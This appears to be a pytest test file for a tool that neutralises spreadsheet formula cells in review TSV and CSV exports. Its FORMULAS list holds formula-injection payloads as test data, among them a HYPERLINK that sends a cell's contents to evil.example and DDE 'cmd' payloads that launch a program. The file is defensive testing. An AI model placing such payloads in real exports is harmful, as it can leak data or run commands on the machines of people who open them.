"""Formula cells from outside services come out inert in the review TSV and back exact (clecgraph.cells)."""

from __future__ import annotations

import csv

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from clecgraph.cells import dangerous, neutralise, restore
from clecgraph.link.review import Candidate, read_review, write_review

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+cmd|x",
    "\t=1",
    "\r=1",
    " =1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_from_a_service_are_inert_in_the_review_file_and_read_back_exact(tmp_path, text):
    row = Candidate("organisation", "cchr", "CCHR", "https://svc.example/api", "https://authority.example/e/1", text, "90", "true", text)
    path = write_review(tmp_path / "review.tsv", [row])
    with path.open(encoding="utf-8", newline="") as handle:
        cells = [cell for line in csv.reader(handle, delimiter="\t") for cell in line]
    assert not any(dangerous(cell) for cell in cells), cells  # what a spreadsheet opens
    back = read_review(path)[0]
    # write_review keeps single spaces (tabs and CRs become spaces): the text is otherwise exact
    assert back.candidate_label == " ".join(text.split()) and back.description == back.candidate_label


@pytest.mark.parametrize("value", ["-12", "+3.5", "1e-3", "CCHR", "'quoted'", "", "https://x.example/"])
def test_values_and_plain_text_are_left_alone(value):
    assert neutralise(value) == value and restore(value) == value


@given(st.text(max_size=30))
def test_neutralise_then_restore_is_the_identity(text):
    assert restore(neutralise(text)) == text
    assert not dangerous(neutralise(text))


def test_query_csv_keeps_values_exact_unless_safe_cells_is_asked(tmp_path):
    from clecgraph.cli.commands import cli

    graph = tmp_path / "g.ttl"
    graph.write_text(
        '<urn:x:a> <urn:x:label> "=HYPERLINK(\\"http://evil.example\\")" .\n<urn:x:b> <urn:x:label> "-5" .\n', encoding="utf-8"
    )
    query = "SELECT ?l WHERE { ?s <urn:x:label> ?l } ORDER BY ?l"
    exact = CliRunner().invoke(cli, ["query", str(graph), query, "--format", "csv"])
    safe = CliRunner().invoke(cli, ["query", str(graph), query, "--format", "csv", "--safe-cells"])
    assert exact.exit_code == 0 and safe.exit_code == 0, exact.output + safe.output
    assert exact.output.splitlines()[1:] == ["-5", '"=HYPERLINK(""http://evil.example"")"']
    assert safe.output.splitlines()[1:] == ["-5", '"\'=HYPERLINK(""http://evil.example"")"']
